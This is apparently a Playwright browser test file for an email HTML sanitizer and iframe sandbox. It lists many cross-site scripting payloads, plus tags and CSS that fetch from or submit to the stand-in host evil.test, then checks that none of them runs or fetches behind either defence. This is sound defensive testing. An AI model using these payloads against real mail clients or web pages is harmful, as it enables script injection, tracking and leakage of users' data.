"""C-1 and C-31 in a real browser: no letter acts or fetches behind both walls, nor behind either of them alone."""

import pytest
from playwright.sync_api import Browser

from tests.browser.hostile import opened
from tests.mime.test_sanitize import HOSTILE

LETTERS = [
    *HOSTILE,
    "<body onload=alert(1)><img src=x onerror=alert(1)><script>alert(1)</script>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s><set onbegin=alert(1) attributename=x>",
    "<details open ontoggle=alert(1)>x</details><input autofocus onfocus=alert(1)><marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><iframe src='javascript:parent.alert(1)'></iframe>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math><noembed><img src=x onerror=alert(1)></noembed>",
    "<style>@import url(http://evil.test/a.css);@font-face{font-family:x;src:url(http://evil.test/f)}p{font-family:x}</style><p>x</p>",
    "<p style='background:url(http://evil.test/b);list-style-image:url(http://evil.test/c);cursor:url(http://evil.test/d),auto'>x</p>",
    "<link rel=stylesheet href=http://evil.test/a.css><link rel=preload as=image href=http://evil.test/p><script src=http://evil.test/s></script>",
    "<img srcset='http://evil.test/1 1x, http://evil.test/2 2x'><picture><source srcset=http://evil.test/3><img></picture>",
    "<table background=http://evil.test/t><tr><td background=http://evil.test/u>x</table><input type=image src=http://evil.test/i>",
    "<svg><image href=http://evil.test/i /><use href=http://evil.test/u#x /><feImage href=http://evil.test/f /></svg>",
    "<embed src=http://evil.test/e><object data=http://evil.test/o></object><video poster=http://evil.test/v><track src=http://evil.test/t>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/r'><base href=http://evil.test/><img src=relative.png>",
    "<form id=f action=http://evil.test/f><button autofocus>x</button></form><script>f.submit()</script>",
]


def test_without_a_wall_they_act(chromium: Browser) -> None:
    """Or the tests below would prove nothing."""
    deeds = opened(chromium, LETTERS, cleaned=False, framed=False)
    assert deeds.ran > 10
    assert len(deeds.asked) > 10


@pytest.mark.parametrize(("cleaned", "framed"), [(True, True), (True, False), (False, True)], ids=["both", "sanitizer", "frame"])
def test_c1_no_letter_acts_or_fetches(chromium: Browser, cleaned: bool, framed: bool) -> None:
    deeds = opened(chromium, LETTERS, cleaned=cleaned, framed=framed)
    assert (deeds.ran, deeds.asked) == (0, [])
